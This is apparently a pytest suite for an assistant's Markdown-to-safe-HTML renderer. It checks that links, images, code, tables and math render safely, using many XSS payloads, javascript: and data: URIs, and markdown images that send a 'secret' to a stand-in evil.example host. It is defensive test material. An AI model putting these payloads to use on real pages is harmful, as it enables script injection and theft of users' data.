"""Markdown to safe HTML: XSS payloads, blocked images, links, code, tables, math and hostile inputs."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

from assistant.rendering import MAX_MARKDOWN_CHARS, MAX_TEX_CHARS, pygments_css, render_markdown

#: Tags the renderer may ever emit (HTML plus the MathML latex2mathml produces).
SAFE_TAGS = {
    "a", "blockquote", "br", "button", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li",
    "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
    "math", "menclose", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mphantom", "mroot", "mrow", "mspace", "msqrt",
    "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder", "munderover",
}  # fmt: skip
#: Attributes through which a browser would fetch or navigate somewhere.
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster", "background", "data", "xlink:href"}


class _Collector(HTMLParser):
    """Every start tag with its attributes, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_safe(html: str) -> None:
    """Only allowed tags, no event handlers, no style, and every URL attribute is an http(s)/mailto link on <a>."""
    for tag, attrs in tags_of(html):
        assert tag in SAFE_TAGS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name != "style", (tag, html)
            if name in URL_ATTRIBUTES:
                assert tag == "a" and name == "href", (tag, name, html)
                assert (value or "").lower().startswith(("http://", "https://", "mailto:")), (value, html)


def hrefs(html: str) -> list[str]:
    return [attrs.get("href") or "" for tag, attrs in tags_of(html) if tag == "a" and "href" in attrs]


# ---------------------------------------------------------------------------------------------------------------------
# Raw HTML and XSS


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<svg onload="alert(1)"><circle r="5"/></svg>',
        '<iframe src="https://evil.example/"></iframe>',
        '<a href="javascript:alert(1)">click</a>',
        '<a href="https://evil.example/">raw link</a>',
        "<style>body{background:url(https://evil.example/x)}</style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<!-- <img src=x onerror=alert(1)> -->",
        '<div style="background:url(https://evil.example/)">x</div>',
        "<details open ontoggle=alert(1)>",
    ],
)
def test_raw_html_comes_out_as_text(payload):
    html = render_markdown(f"before {payload} after")
    assert_safe(html)
    # The text is still visible, just inert: the first "<" of every payload is escaped.
    assert "&lt;" in html
    assert "before" in html and "after" in html
    assert "<script" not in html and "<img" not in html and "<iframe" not in html and "<svg" not in html


def test_raw_html_block_is_escaped():
    html = render_markdown('<div onclick="steal()">\n\n**bold**\n\n</div>\n<img src="x" onerror="alert(1)">')
    assert_safe(html)
    assert "&lt;div onclick=" in html
    assert "<strong>bold</strong>" in html


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](  javascript:alert(1)  )",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "<javascript:alert(1)>",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "<data:text/html,<script>alert(1)</script>>",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/path)",
        "[x](/admin/)",
        "[x](#top)",
        "[x][ref]\n\n[ref]: javascript:alert(1)",
    ],
)
def test_unsafe_or_relative_links_are_not_links(text):
    html = render_markdown(text)
    assert_safe(html)
    assert hrefs(html) == []
    assert "<a" not in html


def test_safe_links_open_in_new_tab_without_referrer():
    html = render_markdown("[docs](https://example.com/a?b=1&c=2) <https://example.org> <mail@example.com>")
    assert hrefs(html) == ["https://example.com/a?b=1&c=2", "https://example.org", "mailto:mail@example.com"]
    links = [attrs for tag, attrs in tags_of(html) if tag == "a"]
    assert len(links) == 3
    for attrs in links:
        assert attrs["target"] == "_blank"
        assert set((attrs["rel"] or "").split()) == {"noopener", "noreferrer", "nofollow"}
    assert_safe(html)


def test_link_title_cannot_inject_attributes():
    html = render_markdown('[x](https://ok.example/ "a\\" onmouseover=\\"alert(1)\\" x=\\"")')
    assert_safe(html)
    (link,) = [attrs for tag, attrs in tags_of(html) if tag == "a"]
    assert set(link) <= {"href", "title", "target", "rel", "class"}
    assert link["title"] == 'a" onmouseover="alert(1)" x="'


def test_link_url_cannot_break_out_of_href():
    html = render_markdown('[x](https://ok.example/"onmouseover="alert(1))')
    assert_safe(html)
    for tag, attrs in tags_of(html):
        if tag == "a":
            assert set(attrs) <= {"href", "title", "target", "rel", "class"}
            assert attrs.get("class") in (None, "external-link")


def link_hosts(html: str) -> list[str]:
    """The destination shown after each external link."""
    return re.findall(r'<span class="link-host"[^>]*>([^<]*)</span>', html)


def test_external_links_are_marked_and_show_where_they_lead():
    html = render_markdown("[sources](https://evil.example/?q=secret)", external_label="Leaves the app")

    (link,) = [attrs for tag, attrs in tags_of(html) if tag == "a"]
    assert link["class"] == "external-link" and link["title"] == "https://evil.example/?q=secret"
    assert link["target"] == "_blank" and set(link["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
    assert link_hosts(html) == ["evil.example"]
    assert 'title="Leaves the app"' in html
    assert_safe(html)


def test_allow_listed_hosts_are_internal_and_others_are_not():
    text = (
        "[a](https://docs.example.com/x) [b](https://example.com/) [c](https://wiki.corp/) [d](https://notexample.com/)"
    )

    html = render_markdown(text, internal_hosts=[".example.com", "wiki.corp"])

    classes = [attrs.get("class") for tag, attrs in tags_of(html) if tag == "a"]
    assert classes == [None, None, None, "external-link"]
    assert link_hosts(html) == ["notexample.com"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[bank](https://bank.example@evil.example/login)", "evil.example"),  # a user name posing as the host
        ("[apple](https://аpple.com/)", "xn--pple-43d.com"),  # Cyrillic "а": shown in ASCII
        ("[port](http://evil.example:8443/)", "evil.example:8443"),
        ("[v6](http://[2001:db8::1]/)", "[2001:db8::1]"),
        ("[mail](mailto:leak@evil.example)", "leak@evil.example"),
    ],
)
def test_the_destination_shown_cannot_be_disguised(text, shown):
    html = render_markdown(text, internal_hosts=["bank.example", "apple.com"])

    assert link_hosts(html) == [shown]


def test_autolinks_are_marked_without_repeating_their_host():
    html = render_markdown("<https://evil.example/path>")

    assert 'class="external-link"' in html and link_hosts(html) == []


# ---------------------------------------------------------------------------------------------------------------------
# Images are never loaded


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        '![x](https://evil.example/?q=secret "title")',
        "![x][img]\n\n[img]: https://evil.example/?q=secret",
        "[![x](https://evil.example/?q=secret)](https://ok.example/)",
        "![](https://evil.example/?q=secret)",
    ],
)
def test_markdown_images_are_blocked(text):
    html = render_markdown(text)
    assert_safe(html)
    assert "<img" not in html
    assert '<span class="blocked-image">' in html
    # No attribute anywhere, of any tag, mentions the exfiltration host: nothing can request it.
    for _tag, attrs in tags_of(html):
        for value in attrs.values():
            assert "evil.example" not in (value or "")
    assert "secret" not in html


def test_blocked_image_shows_its_alt_text_and_label():
    html = render_markdown("![회로도 diagram](https://evil.example/a.png)", image_label="이미지")
    assert '<span class="blocked-image">[이미지: 회로도 diagram]</span>' in html


# ---------------------------------------------------------------------------------------------------------------------
# Code blocks


def test_fenced_code_is_highlighted_with_classes_and_copy_button():
    html = render_markdown("```python\n# 한국어 주석\ndef f(x):\n    return x + 1\n```", copy_label="복사")
    assert_safe(html)
    assert html.startswith('<div class="code-block"><div class="code-head"><span class="code-lang">python</span>')
    assert '<button type="button" class="copy-code" data-copy="">복사</button>' in html
    assert '<pre><code class="language-python">' in html
    assert '<span class="k">def</span>' in html
    assert "한국어 주석" in html
    assert "style=" not in html


def test_copy_label_is_escaped():
    html = render_markdown("```\nx\n```", copy_label="<b>Copy</b>")
    assert "&lt;b&gt;Copy&lt;/b&gt;" in html
    assert "<b>" not in html


def test_unknown_language_is_plain_escaped_text():
    html = render_markdown('```no-such-lang\n<script>alert("x")</script>\n```')
    assert_safe(html)
    assert '<span class="code-lang">no-such-lang</span>' in html
    assert "<pre><code>&lt;script&gt;" in html


def test_hostile_fence_info_is_not_reflected():
    html = render_markdown('```"><img src=x onerror=alert(1)>\ncode\n```')
    assert_safe(html)
    assert '<span class="code-lang">text</span>' in html


def test_code_is_never_interpreted():
    html = render_markdown("```html\n<img src=x onerror=alert(1)>\n```\n\n`<script>inline</script>`")
    assert_safe(html)
    assert "<img" not in html and "<script" not in html
    assert "<code>&lt;script&gt;inline&lt;/script&gt;</code>" in html


def test_unfinished_code_fence_mid_stream():
    html = render_markdown("Here is the fix:\n\n```python\ndef f(x):\n    return x +")
    assert_safe(html)
    assert '<div class="code-block">' in html
    assert "return" in html


def test_pygments_css_is_class_based_and_scoped():
    css = pygments_css()
    assert ".code-block .k " in css
    assert all(line.startswith(".code-block .") for line in css.splitlines() if line.strip())


def test_the_stylesheet_holds_the_generated_code_colours_of_both_themes():
    stylesheet = (Path(__file__).resolve().parents[2] / "static" / "css" / "app.css").read_text()

    light = pygments_css()
    dark = pygments_css(scope='[data-color-scheme="dark"] .code-block', style="github-dark")

    assert light in stylesheet, "regenerate the light code colours in app.css with pygments_css()"
    assert dark in stylesheet, "regenerate the dark code colours in app.css (see the comment there)"


# ---------------------------------------------------------------------------------------------------------------------
# Tables, Korean text


def test_gfm_table_with_korean_headers():
    html = render_markdown("| 이름 | 점수 |\n|:---|---:|\n| 홍길동 | 95 |\n| 김철수 | 80 |")
    assert_safe(html)
    assert '<div class="table-wrap"><table>' in html
    assert '<th class="align-left">이름</th>' in html
    assert '<td class="align-right">95</td>' in html
    assert "style=" not in html


def test_korean_headings_and_emphasis():
    html = render_markdown("## 요약\n\n**중요**: ~~삭제~~ 완료\n줄바꿈")
    assert "<h2>요약</h2>" in html
    assert "<strong>중요</strong>" in html
    assert "<s>삭제</s>" in html
    assert "<br>" in html


# ---------------------------------------------------------------------------------------------------------------------
# Math


def test_inline_and_block_math_become_mathml():
    html = render_markdown("Euler: $e^{i\\pi} + 1 = 0$\n\n$$\n\\int_0^1 x^2\\,dx = \\frac{1}{3}\n$$")
    assert_safe(html)
    assert '<span class="math inline"><math display="inline">' in html
    assert '<div class="math block"><math display="block">' in html
    assert "<mfrac>" in html


def test_bracket_delimiters_become_mathml():
    html = render_markdown("inline \\(a^2 + b^2\\) and\n\n\\[\nc^2\n\\]\n")
    assert_safe(html)
    assert html.count("<math") == 2
    assert '<div class="math block">' in html


def test_escaped_brackets_in_a_sentence_are_not_math():
    html = render_markdown("See \\[1\\] and \\[2\\] for details.")
    assert "<math" not in html
    assert "See [1] and [2] for details." in html


def test_dollar_amounts_are_not_math():
    html = render_markdown("It costs $5 and $10 in total.")
    assert "<math" not in html
    assert "$5 and $10" in html


def test_bad_math_falls_back_to_escaped_source():
    html = render_markdown("broken: $\\frac{1}{$ done")
    assert_safe(html)
    assert '<code class="math-error">\\frac{1}{</code>' in html


def test_math_text_cannot_smuggle_html():
    html = render_markdown("$\\text{<img src=x onerror=alert(1)>}$ and $\\href{javascript:alert(1)}{x}$")
    assert_safe(html)
    assert "<img" not in html
    assert "javascript" not in html


def test_math_colour_values_are_restricted():
    html = render_markdown("$\\color{red;background:url(https://evil.example/)}{x}$ $\\color{blue}{y}$")
    assert_safe(html)
    assert "evil.example" not in html
    assert 'mathcolor="blue"' in html


def test_overlong_and_macro_math_is_shown_as_source():
    long_tex = "x+" * MAX_TEX_CHARS
    html = render_markdown(f"$${long_tex}$$")
    assert '<code class="math-error">' in html and "<math" not in html
    html = render_markdown("$\\newcommand{\\a}{x}\\a$")
    assert '<code class="math-error">' in html


# ---------------------------------------------------------------------------------------------------------------------
# Hostile and huge inputs: these must simply return.


@pytest.mark.parametrize(
    "text",
    [
        ">" * 10_000 + " deep",
        "*" * 100_000,
        "*a" * 30_000,
        "[" * 50_000,
        "`" * 50_000,
        "- " * 10_000 + "x",
        "\\[\n" * 5_000,
        "$$\n" * 5_000,
        "\\(" * 20_000,
        "$x$ " * 5_000,
        "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n",
        "$" + "{" * 1_500 + "x" + "}" * 1_500 + "$",
        "&#0;\x00\ud800 text",
    ],
)
def test_pathological_inputs_finish(text):
    html = render_markdown(text)
    assert isinstance(html, str)
    assert_safe(html)


def test_huge_input_is_escaped_plain_text():
    text = "<script>alert(1)</script> " + "가" * MAX_MARKDOWN_CHARS
    html = render_markdown(text)
    assert html.startswith('<pre class="plain-text">&lt;script&gt;')
    assert_safe(html)


def test_empty_input():
    assert render_markdown("") == ""


# ---------------------------------------------------------------------------------------------------------------------
# MathML lengths are bounded


_EM = {"em": 1.0, "ex": 0.5, "px": 1 / 16, "pt": 0.1, "mm": 0.2845, "cm": 2.845, "in": 7.227, "mu": 1 / 18, "": 1.0}


def math_lengths(html: str) -> list[tuple[str, float]]:
    """(attribute, length in em) of every numeric length on a MathML element."""
    found = []
    for tag, attrs in tags_of(html):
        if not tag.startswith("m"):
            continue
        for name in ("width", "height", "depth", "lspace", "rspace", "voffset", "mathsize", "minsize", "maxsize"):
            match = re.fullmatch(r"([+-]?[\d.]+)\s*(em|ex|px|pt|mm|cm|in|mu|)", attrs.get(name) or "")
            if match:
                found.append((name, float(match.group(1)) * _EM[match.group(2)]))
    return found


@pytest.mark.parametrize(
    "tex",
    [
        r"\rule{9999em}{9999em}",
        r"\kern-999em x",
        r"\hspace{9999cm} x",
        r"\mkern-9999mu x",
        r"\hskip 99999pt x",
        r"\lower 99em x",
        r"\moveleft 999em x",
        r"\rule[999em]{1em}{1em}",
    ],
)
def test_math_lengths_cannot_cover_the_page_or_overlap_the_text(tex):
    html = render_markdown(f"before ${tex}$ after")

    lengths = math_lengths(html)
    assert "<math" in html and lengths, html
    assert all(-2.0 <= em <= 10.0 for _, em in lengths), lengths
    assert_safe(html)


def test_ordinary_math_spacing_and_sizes_are_kept():
    html = render_markdown(r"$a\quad b\,c\!d \Huge e \Bigg( \kern 2em f \mkern-18mu g$")

    assert 'width="1em"' in html and 'width="0.167em"' in html and 'width="negativethinmathspace"' in html
    assert 'mathsize="2.49em"' in html and 'minsize="2.470em"' in html and 'width="2em"' in html
    assert 'width="-18mu"' in html


def test_math_lengths_too_long_to_read_are_dropped():
    html = render_markdown(r"$\kern 9999999999em x$")

    assert "<math" in html and "9999999999" not in html and math_lengths(html) == []
